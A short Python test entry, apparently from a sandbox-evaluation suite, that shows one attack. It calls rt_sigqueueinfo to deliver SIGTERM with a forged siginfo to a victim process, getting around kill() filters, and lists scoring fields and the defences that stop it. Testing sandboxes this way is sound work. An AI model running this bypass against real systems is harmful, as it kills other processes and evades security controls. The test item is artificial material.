"""A filter on kill() may forget the signals that carry a value."""

import ctypes
import os

EARNS = "10"
STOPPED_BY = ("Landlock", "namespaces", "own user", "seccomp")
EVIDENCE = "harmed"


def attack():
    info = (ctypes.c_int * 32)(15, 0, -1, 0, os.getpid(), os.getuid())
    syscall("rt_sigqueueinfo", VICTIM_PID, 15, info)
